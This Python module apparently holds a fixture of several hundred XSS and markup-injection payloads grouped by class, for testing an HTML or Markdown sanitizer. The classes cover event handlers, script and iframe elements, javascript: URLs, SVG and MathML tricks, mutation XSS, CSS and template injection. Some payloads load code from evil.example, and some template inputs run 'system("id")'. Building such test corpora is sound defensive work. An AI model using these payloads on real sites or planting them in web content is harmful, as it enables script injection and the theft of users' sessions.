"""Markup that tries to act, by class: what some browser or renderer would run if it stayed whole."""

from __future__ import annotations

_HANDLERS = """
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'/>
<img/src=x/onerror=alert(1)>
<img src=x OnErRoR=alert(1)>
<img src=x onerror	=alert(1)>
<img src="x` `<script>alert(1)</script>"` `>
<img src=x:x onerror=alert&lpar;1&rpar;>
<img \"\"\"><script>alert(1)</script>">
<img src onerror=alert(1)//
<img src=x onerror=alert`1`>
<img src="x" title="a>b" onerror=alert(1)>
<img src=x alt='"' onerror='alert(1)'>
<body onload=alert(1)>
<p onclick=alert(1)>x</p>
<p onmouseover="alert(1)">x</p>
<a onmouseover=alert(1)>x</a>
<a href=# onclick=alert(1)>x</a>
<div onpointerenter=alert(1) style=display:block>x</div>
<details open ontoggle=alert(1)><summary>x</summary></details>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>x</marquee>
<input onfocus=alert(1) autofocus>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<button onclick=alert(1)>x</button>
<table onclick=alert(1)><tr><td onclick=alert(1)>x</td></tr></table>
<pre onclick=alert(1)><code onclick=alert(1)>x</code></pre>
<blockquote onanimationstart=alert(1)>x</blockquote>
<h1 tabindex=1 onfocus=alert(1)>x</h1>
<em onwheel=alert(1)>x</em>
<code class="language-js" onclick=alert(1)>x</code>
<br onclick=alert(1)>
<hr onauxclick=alert(1)>
<li onbeforecopy=alert(1)>x
<xss onafterscriptexecute=alert(1)>x</xss>
<xss contenteditable onbeforeinput=alert(1)>x</xss>
<a href="x" onfocusin=alert(1) id=y tabindex=1>x</a>
"""

_ELEMENTS = """
<script>alert(1)</script>
<SCRIPT>alert(1)</SCRIPT>
<script src=https://evil.example/x.js></script>
<script/src=//evil.example/x.js></script>
<script >alert(1)</script >
<script\x0c>alert(1)</script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<script>alert(1)//<</script>
<script>alert(1)
<script type=module>import("//evil.example")</script>
<script type="text/template"><img src=x onerror=alert(1)></script>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<iframe src=javascript:alert(1)></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe>
<iframe/onload=alert(1)>
<frameset><frame src=javascript:alert(1)></frameset>
<object data=javascript:alert(1)></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<object><param name=src value=javascript:alert(1)></object>
<embed src=javascript:alert(1)>
<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<applet code=javascript:alert(1)></applet>
<base href="javascript:alert(1)//"><a href="#">x</a>
<base href="https://evil.example/"><img src=x.png>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<meta http-equiv=Set-Cookie content="a=1">
<link rel=stylesheet href=https://evil.example/x.css>
<link rel=import href=https://evil.example/x.html>
<link rel=preload as=script href=https://evil.example/x.js onload=alert(1)>
<form action=javascript:alert(1)><input type=submit></form>
<form><button formaction=javascript:alert(1)>x</button></form>
<form id=f></form><button form=f formaction=javascript:alert(1)>x</button>
<isindex action=javascript:alert(1) type=image>
<input type=image src=x formaction=javascript:alert(1)>
<portal src=https://evil.example></portal>
<dialog open><form method=dialog><button>x</button></form></dialog>
<bgsound src=javascript:alert(1)>
<layer src=https://evil.example/x.js></layer>
<ilayer src=javascript:alert(1)></ilayer>
<xml src=javascript:alert(1)></xml>
<comment><img src="</comment><img src=x onerror=alert(1)//">
<plaintext><script>alert(1)</script>
<xmp><img src=x onerror=alert(1)></xmp>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<noembed><img src=x onerror=alert(1)></noembed>
<noframes><script>alert(1)</script></noframes>
<frame src=javascript:alert(1)>
<fencedframe></fencedframe>
"""

_ADDRESSES = """
<a href=javascript:alert(1)>x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=" javascript:alert(1)">x</a>
<a href="&#1;javascript:alert(1)">x</a>
<a href="&#32;&#14;javascript:alert(1)">x</a>
<a href="java&#9;script:alert(1)">x</a>
<a href="java&#10;script:alert(1)">x</a>
<a href="java&#13;script:alert(1)">x</a>
<a href="java&Tab;script:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="javascript&colon;alert(1)">x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3a;alert(1)">x</a>
<a href="javascript&#0000058alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="javascript://%0aalert(1)">x</a>
<a href="javascript://https://ithelp.ithome.com.tw/%0aalert(1)">x</a>
<a href="jav\x00ascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="\ufeffjavascript:alert(1)">x</a>
<a href="\u200bjavascript:alert(1)">x</a>
<a href="\u3000javascript:alert(1)">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a>
<a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="DATA:text/html,x">x</a>
<a href="blob:https://evil.example/x">x</a>
<a href="filesystem:https://evil.example/x">x</a>
<a href="file:///etc/passwd">x</a>
<a href="view-source:javascript:alert(1)">x</a>
<a href="feed:javascript:alert(1)">x</a>
<a href="jar:https://evil.example!/x">x</a>
<a href="intent://x#Intent;scheme=javascript;end">x</a>
<a href="ms-msdt:/id PCWDiagnostic">x</a>
<a href="tel:*%2306%23">x</a>
<a href="sms:1">x</a>
<a href="ssh://-oProxyCommand=x">x</a>
<a href="mailto:x@y.example?body=<script>alert(1)</script>">x</a>
<a href="https://a.example/%22onclick=alert(1)//">x</a>
<a href='https://a.example/"onclick=alert(1)//'>x</a>
<a href="https://a.example/<script>alert(1)</script>">x</a>
<a href="https://a.example/ )[x](javascript:alert(1)">x</a>
<a href="https://a.example\\@evil.example/">x</a>
<a href="https://user:word@evil.example/">x</a>
<a href="http://[::1">x</a>
<a xlink:href="javascript:alert(1)">x</a>
<a ping="https://evil.example/" href="https://a.example/">x</a>
<a target=_blank href="https://a.example/">x</a>
<a download href="data:text/html,x">x</a>
<area href=javascript:alert(1)>
<map name=m><area shape=rect coords=0,0,9,9 href=javascript:alert(1)></map><img usemap=#m src=x>
<img src=javascript:alert(1)>
<img src="  &#14;  javascript:alert(1)">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>">
<img src="data:text/html,<script>alert(1)</script>">
<img lowsrc=javascript:alert(1)>
<img dynsrc=javascript:alert(1)>
<img srcset="javascript:alert(1) 1x">
<img longdesc=javascript:alert(1) src=x>
<blockquote cite=javascript:alert(1)>x</blockquote>
<q cite=javascript:alert(1)>x</q>
<ins cite=javascript:alert(1)>x</ins>
<table background=javascript:alert(1)><tr><td background=javascript:alert(1)>x
<body background=javascript:alert(1)>
<video poster=javascript:alert(1)></video>
<video src=javascript:alert(1)></video>
<track src=javascript:alert(1)>
"""

_SVG = """
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><script>alert&#40;1&#41;</script></svg>
<svg><script href=data:,alert(1) />
<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a></svg>
<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><set attributeName=onmouseover to=alert(1)></svg>
<svg><use href="data:image/svg+xml,<svg id='x' onload='alert(1)'/>#x"></use></svg>
<svg><image href=x onerror=alert(1)></svg>
<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>
<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><style>*{background:url(javascript:alert(1))}</style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><script>alert(1)</script></desc></svg>
<svg><handler type="application/javascript">alert(1)</handler></svg>
<svg><feImage xlink:href="data:image/svg+xml;base64,x"/></svg>
<svg xmlns:x="javascript:alert(1)"><x:script>alert(1)</x:script></svg>
<svg><discard onbegin=alert(1)>
<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>
"""

_MATHML = """
<math href=javascript:alert(1)>x</math>
<math><mi xlink:href=javascript:alert(1)>x</mi></math>
<math><maction actiontype="statusline#https://evil.example" xlink:href=javascript:alert(1)>x</maction></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<math><mtext><img src=x onerror=alert(1)></mtext></math>
<math><mglyph><img src=x onerror=alert(1)></mglyph></math>
<math><semantics><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></semantics></math>
<math><style><img src=x onerror=alert(1)></style></math>
"""

_MUTATION = """
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<math><mi><table><mglyph><style><math><title></style><img src onerror=alert(1)>
<svg><p><style><g title="</style><img src=x onerror=alert(1)>">
<svg><style><!--</style><a title="--><img src onerror=alert(1)>"></a>
<noscript><style></noscript><img src=x onerror=alert(1)></style>
<style><style /><img src=x onerror=alert(1)>
<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">
<select><noembed></select><script>alert(1)</script></noembed>
<p><noframes><p title="</noframes><img src=x onerror=alert(1)>">
<title><a title="</title><img src=x onerror=alert(1)>">
<textarea><a title="</textarea><img src=x onerror=alert(1)>">
<xmp><a title="</xmp><img src=x onerror=alert(1)>">
<iframe><a title="</iframe><img src=x onerror=alert(1)>">
<!--><img src=x onerror=alert(1)>-->
<!---><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>-->
<!-- --!><img src=x onerror=alert(1)>-->
<!-- <img src=x --><img src=y onerror=alert(1)>
<![CDATA[><img src=x onerror=alert(1)>]]>
<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>
<?php echo 1 ?><img src=x onerror=alert(1)>
<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>&x;
<table><td><select><a title="</select><img src=x onerror=alert(1)>">
<a title="&quot;><img src=x onerror=alert(1)>">x</a>
<b><a><b><a><img src=x onerror=alert(1)></b></a>
<table><a href=javascript:alert(1)>x<td></a>
<p id="</p><script>alert(1)</script>">
<pre>
</pre><script>alert(1)</script><pre>
</div></div></div><script>alert(1)</script>
</body></html><script>alert(1)</script>
<img alt="<x" title="/><img src=x onerror=alert(1)>">
<img src=x alt="``onerror=alert(1)">
<div id="`><img src=x onerror=alert(1)>`">
<span class="language-js"><img src=x onerror=alert(1)></span>
"""

_CSS = """
<style>*{background:url(javascript:alert(1))}</style>
<style>@import url(https://evil.example/x.css);</style>
<style>body{behavior:url(x.htc)}</style>
<style></style><script>alert(1)</script>
<p style="background:url(javascript:alert(1))">x</p>
<p style="width:expression(alert(1))">x</p>
<p style="-moz-binding:url(https://evil.example/x.xml#x)">x</p>
<p style="behavior:url(#default#time2)">x</p>
<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>
<p style="background-image:\\75rl(https://evil.example/)">x</p>
<p class="btn btn-danger" style="animation-name:x" onanimationend=alert(1)>x</p>
<font style="x:y;color:red">x</font>
<link rel="stylesheet" href="data:text/css,*{x:expression(alert(1))}">
<style>@keyframes x{}</style><p style="animation-name:x" onanimationstart=alert(1)></p>
"""

_TEMPLATES = """
{{constructor.constructor('alert(1)')()}}
{{ item.__class__.__mro__ }}
{% raw %}<script>alert(1)</script>{% endraw %}
${alert(1)}
<%= system("id") %>
#{7*7}
<div v-html="'<img src=x onerror=alert(1)>'">x</div>
<div ng-app ng-csp><input ng-focus=$event.view.alert(1)></div>
<div x-data x-init="alert(1)">x</div>
<div data-bind="html:alert(1)">x</div>
<template><script>alert(1)</script></template>
<template shadowrootmode=open><script>alert(1)</script></template>
<div hx-get="https://evil.example/" hx-trigger=load>x</div>
<a @click="alert(1)" :href="x">x</a>
<slot name=x onslotchange=alert(1)></slot>
"""

_MARKDOWN = """
[x](javascript:alert(1))
[x](<javascript:alert(1)>)
[x]( javascript:alert(1) "t")
[x][y] [y]: javascript:alert(1)
<p>[y]: javascript:alert(1)</p><p>[x][y]</p>
![x](javascript:alert(1))
![x](x" onerror="alert(1))
<javascript:alert(1)>
&lt;script&gt;alert(1)&lt;/script&gt;
&lt;img src=x onerror=alert(1)&gt;
<p>&lt;script&gt;</p><p>alert(1)</p><p>&lt;/script&gt;</p>
<p>&lt;!-- </p><img src="https://a.example/x.png"><p> --&gt;</p>
<code>&lt;img src=x onerror=alert(1)&gt;</code>
<code>`&lt;img src=x onerror=alert(1)&gt;`</code>
<code>``` &lt;script&gt;alert(1)&lt;/script&gt;</code>
<pre><code>```
&lt;script&gt;alert(1)&lt;/script&gt;
```</code></pre>
<pre><code>~~~
&lt;img src=x onerror=alert(1)&gt;</code></pre>
<pre><code class="language-x```&#10;&lt;script&gt;alert(1)&lt;/script&gt;">x</code></pre>
<pre><code class="language-js&quot;onclick=alert(1)">x</code></pre>
<a href="https://a.example/)[x](javascript:alert(1)">x</a>
<a href="https://a.example/&gt;&lt;script&gt;alert(1)">x</a>
<a href="https://a.example/">x](javascript:alert(1)) [y</a>
<a href="https://a.example/">&lt;img src=x onerror=alert(1)&gt;</a>
<a title='"&gt;&lt;img src=x onerror=alert(1)&gt;' href="https://a.example/">x</a>
<a title="x&#10;&#10;&lt;script&gt;alert(1)&lt;/script&gt;" href="https://a.example/">x</a>
<img alt="](javascript:alert(1))" src="https://a.example/x.png">
<img alt="&lt;script&gt;alert(1)&lt;/script&gt;" src="https://a.example/x.png">
<img alt="x&#10;&#10;&lt;script&gt;alert(1)&lt;/script&gt;" src="https://a.example/x.png">
<img alt="`" src="https://a.example/x.png">&lt;script&gt;alert(1)&lt;/script&gt;
<img title='x" onerror="alert(1)' src="https://a.example/x.png">
<table><tr><td>a | [x](javascript:alert(1)) |</td><td>&lt;img src=x onerror=alert(1)&gt;</td></tr></table>
<table><tr><td><pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></td></tr></table>
<h1>&lt;svg onload=alert(1)&gt;</h1>
<ul><li>&lt;svg/onload=alert(1)&gt;</li></ul>
<blockquote>&gt; &lt;script&gt;alert(1)&lt;/script&gt;</blockquote>
<p>\\&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>\\\\&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>`&lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>`` ` &lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>&amp;lt;script&amp;gt;alert(1)</p>
<p>    &lt;script&gt;alert(1)&lt;/script&gt;</p>
<p>[[x]](javascript:alert(1))</p>
<p>$\\href{javascript:alert(1)}{x}$</p>
<p>:::{raw} html &lt;script&gt;alert(1)&lt;/script&gt; :::</p>
<strong>&lt;a href=javascript:alert(1)&gt;x&lt;/a&gt;</strong>
<details><summary>&lt;img src=x onerror=alert(1)&gt;</summary>&lt;script&gt;</details>
<sub>&lt;script&gt;</sub><sup>&lt;img src=x onerror=alert(1)&gt;</sup>
<dl><dt>&lt;script&gt;</dt><dd>&lt;svg onload=alert(1)&gt;</dd></dl>
<ruby>x<rt>&lt;script&gt;alert(1)&lt;/script&gt;</rt></ruby>
<figure><img src="https://a.example/x.png"><figcaption>&lt;script&gt;alert(1)&lt;/script&gt;</figcaption></figure>
<kbd>&lt;script&gt;</kbd><samp>&lt;svg onload=alert(1)&gt;</samp><var>&lt;img&gt;</var>
<del>&lt;script&gt;alert(1)&lt;/script&gt;</del><mark>&lt;svg/onload=alert(1)&gt;</mark>
"""

# Payloads of more than one line, as they stand above.
_JOINED = ("<pre>\n</pre>", "<pre><code>```\n&", "&lt;/script&gt;\n```", "<pre><code>~~~\n")


def _lines(block: str) -> list[str]:
    for part in _JOINED:
        block = block.replace(part, part.replace("\n", "\ue000"))
    return [payload.replace("\ue000", "\n") for payload in block.strip("\n").split("\n")]


CLASSES = {
    "handlers": _lines(_HANDLERS),
    "elements": _lines(_ELEMENTS),
    "addresses": _lines(_ADDRESSES),
    "svg": _lines(_SVG),
    "mathml": _lines(_MATHML),
    "mutation": _lines(_MUTATION),
    "css": _lines(_CSS),
    "templates": _lines(_TEMPLATES),
    "markdown": _lines(_MARKDOWN),
}

PAYLOADS = [(name, payload) for name, payloads in CLASSES.items() for payload in payloads]
